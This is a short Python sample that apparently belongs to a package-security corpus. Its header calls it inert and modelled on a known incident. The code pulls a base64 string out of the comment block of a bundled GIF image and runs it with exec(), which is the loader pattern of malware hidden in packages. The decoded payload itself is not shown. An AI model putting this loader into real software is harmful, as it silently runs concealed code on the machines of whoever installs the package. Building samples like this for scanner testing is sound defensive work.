# pkgguard corpus 311 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os

with open(os.path.join(os.path.dirname(__file__), "spinner.gif"), "rb") as f:
    data = f.read()
start = data.index(b"\x21\xfe") + 3
payload = data[start : data.index(b"\x00", start)]
exec(base64.b64decode(payload))
